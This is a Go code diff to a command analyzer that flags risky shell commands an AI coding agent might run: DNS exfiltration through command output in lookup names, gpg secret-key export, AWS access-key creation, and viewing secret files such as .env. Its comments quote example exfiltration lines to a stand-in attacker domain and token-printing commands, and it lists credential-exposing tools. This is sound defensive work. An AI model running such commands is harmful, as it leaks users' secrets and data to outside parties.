@@ -25,6 +25,9 @@ func credentialPrinter(name string, args []string) bool {
 func tokenPrinter(name string, args []string) bool {
 	switch name {
 	case "gcloud", "az", "aws", "gh", "glab", "vault", "pass", "gopass", "op", "kubectl", "oc":
+	case "gpg", "gpg2":
+		// gpg(1) --export-secret-keys and --export-secret-subkeys write the private keys out.
+		return hasFlag(args, "--export-secret-keys", "--export-secret-subkeys")
 	default:
 		return false
 	}
@@ -39,7 +42,7 @@ func tokenPrinter(name string, args []string) bool {
 	case "aws":
 		return strings.HasPrefix(sub, "configure export-credentials") || strings.HasPrefix(sub, "sts get-session-token") ||
 			strings.HasPrefix(sub, "sts assume-role") || strings.HasPrefix(sub, "secretsmanager get-secret-value") ||
-			strings.HasPrefix(sub, "ssm get-parameter")
+			strings.HasPrefix(sub, "ssm get-parameter") || strings.HasPrefix(sub, "iam create-access-key")
 	case "gh", "glab":
 		return strings.HasPrefix(sub, "auth token")
 	case "vault":
@@ -130,6 +133,41 @@ func (a *analyzer) pasteUpload(name string, args []string, line string) {
 	}
 }
 
+// dnsLookup are the programs that resolve the names they are given (dig(1), nslookup(1),
+// host(1), ldns' drill, BIND's delv, Knot's kdig, `getent hosts`, `resolvectl query`, ping).
+var dnsLookup = set("dig", "nslookup", "host", "drill", "delv", "kdig", "getent", "resolvectl", "ping", "ping6")
+
+// dnsExfil judges a name lookup whose name carries the output of a command as a label
+// (`nslookup $(whoami).x.oast.fun`, `dig $(base64 -w0 f | head -c 60).attacker.example`): the
+// query takes that data to whoever serves the domain, through any DNS resolver, with no
+// connection of its own (MITRE ATT&CK T1048, exfiltration over an alternative protocol; T1071.004).
+// To an out-of-band testing or anonymous host it is refused; elsewhere it asks. A name held
+// in a variable (`dig ${SVC}.default.svc.cluster.local`) is a set-up value, not output.
+func (a *analyzer) dnsExfil(name string, args []string, line string) {
+	if !dnsLookup[name] {
+		return
+	}
+	for _, x := range joinSubst(args) { // asroot.go: "$(id" "-u).x" is one word
+		if strings.HasPrefix(x, "-") || strings.HasPrefix(x, "+") || strings.HasPrefix(x, "@") {
+			continue
+		}
+		i := strings.LastIndexAny(x, ")`")
+		if i < 0 || !strings.Contains(x[:i], "$(") && strings.Count(x[:i+1], "`") < 2 {
+			continue
+		}
+		domain := strings.TrimPrefix(x[i+1:], ".")
+		if !strings.HasPrefix(x[i+1:], ".") || !strings.Contains(domain, ".") {
+			continue
+		}
+		if pasteHost(domain) {
+			a.add("exfil/dns", "sends a command's output out in a DNS name to an out-of-band host", line, 0.95)
+		} else {
+			a.ask("exfil/dns", "sends a command's output out in a DNS name", line, 0.85)
+		}
+		return
+	}
+}
+
 // tunnel asks about a line that opens a way into this machine or out through another one:
 // ssh's remote forward (-R: a port of the other host leads here) and dynamic forward (-D: a
 // SOCKS proxy through it), and tunnel clients that publish a local port on the internet
@@ -211,8 +249,8 @@ func execLines(p, text string) []string {
 // secretPrint asks about a command whose output, a secret, goes straight into the
 // conversation (and with it to the model's provider): echo or printf of a variable named for a
 // secret (`echo $GITHUB_TOKEN`), printenv of one, a CLI printing its token or a secret store's
-// entry (tokenPrinter), macOS's `security find-generic-password -w`
-// and libsecret's `secret-tool lookup`. Piped into another program (`gh auth token | docker
+// entry (tokenPrinter), macOS's `security find-generic-password -w`,
+// libsecret's `secret-tool lookup`, and a file viewer given a secret file (`cat .env`). Piped into another program (`gh auth token | docker
 // login --password-stdin`), redirected, or captured by `$(…)`, the output goes elsewhere: no
 // finding.
 func (a *analyzer) secretPrint(argv []string, redirs []*syntax.Redirect) {
@@ -246,6 +284,16 @@ func (a *analyzer) secretPrint(argv []string, redirs []*syntax.Redirect) {
 		prints = len(args) > 0 && (args[0] == "find-generic-password" || args[0] == "find-internet-password") && hasFlag(args, "-w", "-g", "-wa", "-ga")
 	case "secret-tool":
 		prints = len(args) > 0 && args[0] == "lookup"
+	case "cat", "tac", "head", "tail", "less", "more", "bat", "batcat", "nl", "strings", "xxd", "od", "hexdump", "base64", "jq", "yq", "grep", "egrep", "rg":
+		// A secret file shown whole or in part (`cat .env`, `grep TOKEN .env.local`): what
+		// Claude Code's own settings suggest denying to its Read tool (`Read(./.env)`). The
+		// account and sudo files hold no secret of their own, and the sensitive-path rules
+		// ask about reading them.
+		for _, x := range args {
+			c := path.Clean(x)
+			account := c == "/etc/passwd" || c == "/etc/group" || strings.HasPrefix(c, "/etc/sudoers")
+			prints = prints || !strings.HasPrefix(x, "-") && !account && PathRisk(x) == RiskSecret
+		}
 	default:
 		prints = tokenPrinter(name, args)
 	}
